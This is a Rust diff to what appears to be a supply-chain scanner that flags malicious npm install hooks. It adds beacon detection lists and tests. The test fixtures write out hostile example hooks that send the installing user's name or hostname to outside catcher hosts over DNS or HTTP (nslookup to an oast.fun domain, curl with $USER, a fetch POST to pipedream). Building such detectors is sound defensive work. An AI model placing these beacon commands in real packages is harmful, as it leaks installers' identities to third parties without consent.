@@ -582,45 +582,103 @@ fn install_hooks(path: &str, data: &[u8], scans: &[FileScan], out: &mut Vec<Scam
         ]
         .iter()
         .any(|w| lc.contains(w));
-        let inline_node =
-            lc.contains("node -e") && (lc.contains("http") || lc.contains("child_process"));
-        let (sev, title, why) = if (downloads && runs) || inline_node {
+        // `node -e "…"` that opens connections, spawns programs or resolves names.
+        let inline_node = (lc.contains("node -e") || lc.contains("node --eval"))
+            && [
+                "http",
+                "child_process",
+                "dns",
+                "require('net')",
+                "require(\"net\")",
+                "os.hostname",
+                "userinfo",
+            ]
+            .iter()
+            .any(|w| lc.contains(w));
+        // `nslookup $(whoami).x.oast.fun`, `curl https://x?h=$(hostname)`: a beacon that
+        // reports who installed the package.
+        let beacon = ["nslookup", "dig ", "curl ", "wget ", "ping ", "host "]
+            .iter()
+            .any(|w| lc.contains(w))
+            && [
+                "$(hostname",
+                "`hostname`",
+                "$(whoami",
+                "`whoami`",
+                "$user",
+                "${user}",
+                "%username%",
+                "%computername%",
+                "$(env",
+                "printenv",
+            ]
+            .iter()
+            .any(|w| lc.contains(w));
+        let (sev, title, why) = if beacon {
+            (
+                Severity::Critical,
+                "Install script reports the machine to a remote host",
+                "sends the user or host name out (DNS/HTTP beacon)".to_string(),
+            )
+        } else if (downloads && runs) || inline_node {
             (
                 Severity::Critical,
                 "Install script downloads and runs code",
-                "downloads code and runs it",
+                "downloads code and runs it".to_string(),
             )
         } else if downloads {
             (
                 Severity::High,
                 "Install script downloads files",
-                "downloads files from the internet",
+                "downloads files from the internet".to_string(),
             )
-        } else if let Some(script) = local_script(cmd).map(|s| format!("{dir}{s}")) {
-            // `node scripts/setup.js`: judge the script by its own signals.
-            let Some(fs) = scans.iter().find(|s| s.path == script) else {
-                continue;
-            };
-            let critical = fs.scam.iter().any(|f| f.severity == Severity::Critical);
+        } else if let Some(fs) = local_scripts(cmd)
+            .into_iter()
+            .map(|s| format!("{dir}{s}"))
+            .find_map(|script| {
+                // `node index` runs index.js.
+                scans
+                    .iter()
+                    .find(|s| s.path == script || s.path == format!("{script}.js"))
+            })
+        {
+            // `node scripts/setup.js`: judge the script by its own signals. Malicious
+            // behaviour (a stealer, a beacon, a dropper) run on install is critical even
+            // when the same code in a library would be high.
+            let critical = fs.scam.iter().any(|f| {
+                f.severity == Severity::Critical
+                    || (f.check == "scam.malware" && f.severity >= Severity::High)
+            });
             let net = fs.count(Sig::NetworkUse) > 0;
             let spawn = fs.count(Sig::ProcessSpawn) > 0;
             if critical {
-                (
-                    Severity::Critical,
-                    "Install script runs malicious code",
-                    "runs a script with a critical finding",
-                )
+                (Severity::Critical, "Install script runs malicious code", {
+                    let worst = fs
+                        .scam
+                        .iter()
+                        .filter(|f| f.severity >= Severity::High)
+                        .max_by_key(|f| f.severity);
+                    match worst {
+                        Some(w) => format!(
+                            "runs {} ({}: {})",
+                            fs.path,
+                            w.title.to_lowercase(),
+                            w.detail
+                        ),
+                        None => "runs a script with a critical finding".to_string(),
+                    }
+                })
             } else if net && spawn {
                 (
                     Severity::High,
                     "Install script fetches and starts programs",
-                    "runs a script that uses the network and starts programs",
+                    "runs a script that uses the network and starts programs".to_string(),
                 )
             } else if net {
                 (
                     Severity::Medium,
                     "Install script uses the network",
-                    "runs a script that uses the network",
+                    "runs a script that uses the network".to_string(),
                 )
             } else {
                 continue;
@@ -642,17 +700,23 @@ fn install_hooks(path: &str, data: &[u8], scans: &[FileScan], out: &mut Vec<Scam
     }
 }
 
-fn local_script(cmd: &str) -> Option<String> {
-    let mut it = cmd.split_whitespace();
-    let first = it.next()?;
-    if !matches!(
-        first,
-        "node" | "bun" | "deno" | "python" | "python3" | "sh" | "bash"
-    ) {
-        return None;
-    }
-    it.find(|a| !a.starts_with('-'))
-        .map(|s| s.trim_start_matches("./").to_string())
+/// The local scripts a hook command runs, one per `&&`/`||`/`;` segment
+/// (`node a.js && node b.js`).
+fn local_scripts(cmd: &str) -> Vec<String> {
+    cmd.split(['&', '|', ';'])
+        .filter_map(|seg| {
+            let mut it = seg.split_whitespace();
+            let first = it.next()?;
+            if !matches!(
+                first,
+                "node" | "bun" | "deno" | "python" | "python3" | "sh" | "bash"
+            ) {
+                return None;
+            }
+            it.find(|a| !a.starts_with('-'))
+                .map(|s| s.trim_start_matches("./").to_string())
+        })
+        .collect()
 }
 
 fn truncate(s: &str, n: usize) -> String {
@@ -851,5 +915,69 @@ default = ["serde"]
         let mut tree = FileTree::default();
         tree.add("package.json", r#"{"name":"x","scripts":{"prepare":"husky install","postinstall":"node-gyp rebuild"}}"#);
         assert!(evaluate(&tree, &[]).is_empty());
+    }
+
+    #[test]
+    fn malicious_hooks() {
+        let hook = |script: &str| {
+            let mut tree = FileTree::default();
+            tree.add(
+                "package.json",
+                format!(
+                    r#"{{"name":"x","scripts":{{"preinstall":{}}}}}"#,
+                    serde_json::to_string(script).unwrap()
+                ),
+            );
+            evaluate(&tree, &[]).into_iter().map(|f| f.severity).max()
+        };
+        assert_eq!(
+            hook("nslookup $(whoami).$(hostname).x1.oast.fun"),
+            Some(Severity::Critical)
+        );
+        assert_eq!(
+            hook("curl https://x.example/c?u=$USER"),
+            Some(Severity::Critical)
+        );
+        assert_eq!(
+            hook("node -e \"require('dns').lookup(require('os').hostname()+'.x.example')\""),
+            Some(Severity::Critical)
+        );
+        // Installers that name the platform or a target folder are not beacons.
+        assert_ne!(
+            hook("curl -fsSL https://github.com/a/b/releases/download/v1/b-$(uname -s).tgz -o $HOME/b.tgz"),
+            Some(Severity::Critical)
+        );
+        assert_eq!(
+            hook("node -e \"if (process.env.CI) process.exit(0)\""),
+            None
+        );
+        assert_eq!(hook("husky install"), None);
+    }
+
+    #[test]
+    fn hook_runs_script_with_malicious_behaviour() {
+        use crate::analysis::scanner::Scanner;
+        let mut tree = FileTree::default();
+        tree.add(
+            "package.json",
+            r#"{"name":"x","scripts":{"postinstall":"node index && echo done"}}"#,
+        );
+        // Host details to a request catcher: high in a library, critical on install.
+        let js = "const os = require('os');\nfetch('https://abc.m.pipedream.net', { method: 'POST', body: os.userInfo().username });\n";
+        tree.add("index.js", js);
+        let mut bin = Vec::new();
+        let scans: Vec<FileScan> = tree
+            .files
+            .iter()
+            .filter_map(|f| Scanner::global().scan_file(f, &mut bin).ok())
+            .collect();
+        assert!(scans[1]
+            .scam
+            .iter()
+            .any(|f| f.check == "scam.malware" && f.severity == Severity::High));
+        let f = evaluate(&tree, &scans);
+        assert_eq!(f.len(), 1, "{f:#?}");
+        assert_eq!(f[0].severity, Severity::Critical);
+        assert!(f[0].detail.contains("index.js"), "{}", f[0].detail);
     }
 }
